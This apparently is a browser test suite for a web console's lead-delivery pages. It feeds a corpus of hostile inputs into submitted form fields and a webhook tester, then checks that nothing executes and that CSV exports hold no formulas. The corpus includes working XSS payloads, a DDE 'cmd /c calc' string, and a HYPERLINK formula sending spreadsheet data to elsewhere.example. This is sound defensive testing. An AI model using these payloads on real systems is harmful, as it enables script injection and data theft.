/** Hostile content in every field that a form-filler or sender controls: shown as text, and nothing of it runs. */

import { beforeAll, describe, expect, it } from 'vitest'
import { browser } from './chromium.ts'
import { pagesOf } from './pages.ts'
import { operator, person, secret, submit, usher } from './visitor.ts'

const MARK = 'window.pwned=1'

/** What a stranger may type or send, by what it tries. */
const CORPUS: readonly (readonly [what: string, text: string])[] = [
  ['a script', `<script>${MARK}</script>`],
  ['an image that fails', `<img src=x onerror="${MARK}">`],
  ['the end of an attribute', `" onfocus="${MARK}" autofocus x="`],
  ['the end of a text area', `</textarea><script>${MARK}</script>`],
  ['the end of a title', `</title><svg onload="${MARK}">`],
  ['the end of a script', `</script><script>${MARK}</script>`],
  ['a link', `javascript:${MARK}`],
  ['a comment', `--><iframe srcdoc="<script>parent.${MARK}</script>">`],
  ['an entity', `&lt;script&gt;${MARK}&lt;/script&gt;`],
  ['a template', `\${${MARK}} {{constructor.constructor('${MARK}')()}}`],
  ['a style', `<style>*{display:none}</style>`],
  ['another base', `<base href="https://elsewhere.example/">`],
  ['a form', `<form action="https://elsewhere.example/"><button>Log in</button></form>`],
  ['text turned around', 'evil\u202egnp.exe'],
  ['isolates that never end', `\u2066\u2067${'\u202b'.repeat(20)}abc`],
  ['a null', 'nul\u0000l'],
  ['a formula', `=HYPERLINK("https://elsewhere.example/?"&A1,"Click")`],
  ['a formula behind white space', '\t=1+1'],
  ['a command', '@SUM(1+1)*cmd|"/c calc"!A0'],
  ['ten kilobytes', 'W'.repeat(10_000)],
  ['many accents', `Z${'\u0300'.repeat(500)}`],
]

/** Fields of one lead: fewer pages to look at. */
const AT_ONCE = 4

export function hostile(): void {
  const held: string[] = []

  beforeAll(async () => {
    const texts = CORPUS.map(([, text]) => text)
    for (let at = 0; at < texts.length; at += AT_ONCE) {
      const some = texts.slice(at, at + AT_ONCE)
      const fields = Object.fromEntries(
        some.map((text, nth) => [`${nth}${text.slice(0, 60)}`, text]),
      )
      held.push(...(await submit({ ...person({ whatsapp_ok: 'no' }), ...fields })))
    }
    // As the name of a person and of a group.
    for (const text of texts) await submit(person({ name: text, cohort: text.slice(0, 80) }))
  })

  describe.concurrent.each([
    ['with the policy', false],
    ['without the policy', true],
  ] as const)('%s', (_, bypassCSP) => {
    it('nothing runs, nothing is asked elsewhere, and all is there as text', async () => {
      const { page, context, complaints } = await operator(await browser(), { bypassCSP })
      const shown: string[] = []
      const visit = async (path: string): Promise<void> => {
        await page.goto(path)
        expect([path, await page.evaluate('window.pwned ?? null')]).toEqual([path, null])
        const strangers = await page.evaluate(
          `document.querySelectorAll('script:not([src^="/console/assets/"]), iframe, base, style, img, main svg[onload]').length`,
        )
        expect([path, strangers]).toEqual([path, 0])
        shown.push(await page.locator('body').innerText())
      }
      for (const id of held) await visit(`/console/deliveries/${id}`)
      for (const path of pagesOf(held[0] ?? '')) await visit(path)
      await page.goto('/console/hooks/webinar')
      await page.getByRole('button', { name: 'Take what came last' }).click()
      await page.waitForLoadState()
      const tried = CORPUS.slice(0, 13).map(([, text]) => text)
      for (let at = 0; at < tried.length; at += AT_ONCE) {
        const some = Object.fromEntries(Object.entries(tried.slice(at, at + AT_ONCE)))
        await page.getByLabel('A payload as').fill(JSON.stringify(some))
        await page.getByRole('button', { name: 'Show what would happen' }).click()
        await page.waitForLoadState()
      }
      expect(await page.evaluate('window.pwned ?? null')).toBeNull()
      await context.close()
      expect(complaints).toEqual([])
      const all = shown.join('\n')
      for (const [what, text] of CORPUS.slice(0, 13)) {
        expect([what, all.includes(text)]).toEqual([what, true])
      }
    })
  })

  describe('the export', () => {
    it('has no formula and nothing that hides what it says', async () => {
      const { page, context } = await operator(await browser())
      await page.goto('/console/deliveries')
      const downloading = page.waitForEvent('download')
      await page.getByRole('link', { name: 'Download as CSV' }).click()
      const stream = await (await downloading).createReadStream()
      const text = (await stream.toArray()).join('')
      await context.close()
      expect(text).not.toMatch(/(?:^|,)"[\s]*[=@+-]/m)
      expect(text.slice(1)).not.toMatch(/(?![\r\n])[\p{Cc}\p{Cf}]/u)
    })

    it('of the API is JSON, and no browser takes it for a page', async () => {
      const headers = { authorization: `Bearer ${secret('ADMIN_SECRET')}` }
      const answer = await fetch(`${usher.url}/api/deliveries/${held[0]}`, { headers })
      expect(answer.headers.get('content-type')).toContain('application/json')
    })
  })
}
